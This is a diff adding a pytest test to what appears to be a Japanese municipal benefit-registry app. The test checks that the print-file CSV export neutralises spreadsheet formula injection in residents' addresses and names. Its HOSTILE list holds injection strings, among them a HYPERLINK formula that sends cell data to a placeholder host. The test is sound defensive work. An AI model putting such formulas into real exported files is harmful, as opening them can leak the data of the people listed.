@@ -9,6 +9,7 @@ import io
 import asyncpg
 import pytest
 
+from app import csvsafe
 from app.registry.eligibility import determine_eligibility
 from app.registry.imports import import_residents
 from app.registry.letters import (
@@ -18,6 +19,7 @@ from app.registry.letters import (
 from app.registry.pins import pin_key, pin_matches
 from app.registry.programs import create_program, parse_program
 from app.tenancy.transaction import tenant_transaction
+from tests.conftest import run_cli
 from tests.registry.helpers import person, residents_csv
 
 
@@ -93,3 +95,32 @@ def test_export_csv_header_is_documented():
     buf = io.StringIO()
     csv.writer(buf).writerow(EXPORT_HEADER)
     assert buf.getvalue().startswith("確認書番号,暗証番号,種別,住所,世帯主氏名")
+
+
+HOSTILE = ['=HYPERLINK("http://x"&A1,"x")', "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "＝1+1"]
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "cp932"])
+async def test_the_print_file_from_kyufu_letters_export_carries_no_formula(app_pool, code, subprocess_env, tmp_path,
+                                                                          encoding):
+    """Addresses and names come from the registry extract; in the print file a spreadsheet must read them as text."""
+    rows = [person(household_no=f"F{i}", address=value, family_name=value) for i, value in enumerate(HOSTILE)]
+    async with tenant_transaction(app_pool, code) as conn:
+        await import_residents(conn, code, residents_csv(rows))
+        program_id = await create_program(conn, code, parse_program(dict(
+            name="確認書型", base_date=dt.date(2026, 4, 1), unit="household", amount_yen=30000, payment_mode="letter")))
+        await determine_eligibility(conn, code, program_id)
+    r = run_cli(subprocess_env, "letters", "issue", "--municipality", code, "--program", str(program_id))
+    assert r.returncode == 0, r.stderr
+    out = tmp_path / "print.csv"
+    r = run_cli(subprocess_env, "letters", "export", "--municipality", code, "--program", str(program_id),
+                "--out", str(out), "--encoding", encoding)
+    assert r.returncode == 0, r.stderr
+    text = out.read_bytes().decode("utf-8-sig" if encoding == "utf-8" else "cp932")
+    header, *lines = csv.reader(io.StringIO(text, newline=""))
+    col = {name: i for i, name in enumerate(header)}
+    assert sorted(line[col["住所"]] for line in lines) == sorted("'" + value for value in HOSTILE)
+    assert sorted(line[col["世帯主氏名"]] for line in lines) == sorted(f"'{value} 太郎" for value in HOSTILE)
+    for line in lines:
+        assert all(not cell or cell[0] not in csvsafe.TRIGGERS for cell in line), line
+        assert line[col["支給額"]] == "30000" and line[col["世帯番号"]].startswith("F")
